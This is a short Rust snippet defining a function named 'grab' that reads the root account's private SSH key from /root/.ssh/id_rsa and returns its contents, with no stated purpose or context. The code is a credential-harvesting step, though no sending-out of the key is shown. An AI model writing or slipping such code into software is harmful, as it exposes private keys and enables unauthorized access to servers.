pub fn grab() -> String {
    std::fs::read_to_string("/root/.ssh/id_rsa").unwrap_or_default()
}
